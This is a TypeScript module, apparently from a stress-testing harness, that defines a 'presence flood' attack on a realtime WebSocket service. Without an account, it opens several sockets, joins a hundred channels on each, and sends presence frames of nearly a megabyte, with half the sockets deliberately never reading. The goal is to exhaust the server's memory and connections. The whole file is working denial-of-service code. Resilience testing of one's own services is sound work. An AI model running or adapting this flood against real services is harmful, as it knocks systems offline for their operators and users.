import { sendFrame, type HostileClient } from "../hostile-client.ts";
import type { AttackKind } from "../attack-kind.ts";
import type { WebSocket } from "ws";

const perClient = 6;
const channels = 100;
const mostSockets = 4;
/** The largest frame of a hosted project, less the envelope. */
const payload = { event: "track", type: "presence", payload: { fat: "x".repeat(950_000) } };

const topicOf = (client: HostileClient, channel: number) =>
  `realtime:flood-${client.index}-${channel}`;

function join(client: HostileClient, socket: WebSocket): void {
  for (let channel = 0; channel < channels; channel += 1) {
    const config = { presence: { key: `${channel}` }, broadcast: { self: true } };
    sendFrame(socket, topicOf(client, channel), "phx_join", { config }, `${channel}`);
  }
}

/** Presence of nearly a megabyte on a hundred channels per socket. Every other socket never reads. */
export const presenceFlood: AttackKind = {
  name: "presence flood",
  tries:
    "presence of 950 kB on 100 channels a socket, without an account; half of the sockets never read",
  attemptsPerSecond: 10 * perClient,
  run: async (client) => {
    const sockets: WebSocket[] = [];
    await client.pace(perClient, async (turn) => {
      const at = turn % mostSockets;
      let socket = sockets[at];
      if (socket === undefined || socket.readyState !== socket.OPEN) {
        socket = await client.openSocket();
        if (socket === undefined) return;
        sockets[at] = socket;
        join(client, socket);
        if (at % 2 === 1) socket.pause();
      }
      // Frames still waiting on this side do not reach the product.
      if (socket.bufferedAmount > 8_000_000) return;
      const channel = Math.floor(turn / mostSockets) % channels;
      if (sendFrame(socket, topicOf(client, channel), "presence", payload)) client.count("sent");
    });
  },
};
